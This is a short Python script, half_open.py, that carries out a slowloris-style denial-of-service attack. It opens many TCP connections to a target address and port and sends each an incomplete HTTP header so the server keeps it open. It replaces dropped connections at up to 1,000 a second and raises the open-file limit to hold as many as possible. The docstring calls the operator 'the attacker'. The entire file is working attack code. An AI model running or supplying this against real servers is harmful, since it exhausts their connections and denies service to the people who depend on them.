"""half_open.py ADDRESS PORT COUNT – opens connections that send half a header, and keeps them open.

Replaces connections that close, at most 1,000 a second, so that the attacker's own work does not slow the host down.
Prints the number of open connections five times a second, one per line, until stdin closes.
"""

import resource
import selectors
import socket
import sys
import time

address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
selector = selectors.DefaultSelector()
selector.register(sys.stdin, selectors.EVENT_READ)
opened, reported = 0, 0.0
REPLACED = 1000  # a second
begun, started = 0, time.monotonic()


def begin() -> None:
    global opened
    one = socket.socket()
    one.setblocking(False)
    one.connect_ex((address, port))
    selector.register(one, selectors.EVENT_WRITE, 0)


def end(one: socket.socket, was_open: int) -> None:
    global opened
    selector.unregister(one)
    one.close()
    opened -= was_open


waiting = 0
while True:
    may_begin = count + int(REPLACED * (time.monotonic() - started)) - begun
    for _ in range(min(100, count - opened - waiting, may_begin)):
        begin()
        begun += 1
        waiting += 1
    for key, events in selector.select(0.05):
        one = key.fileobj
        if not isinstance(one, socket.socket):
            sys.exit()
        try:
            if events & selectors.EVENT_WRITE:
                waiting -= 1
                one.send(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Half")
                opened += 1
                selector.modify(one, selectors.EVENT_READ, 1)
            elif not one.recv(4096):
                end(one, 1)
        except OSError:
            end(one, key.data)
    if time.monotonic() > reported + 0.2:
        reported = time.monotonic()
        print(opened, flush=True)
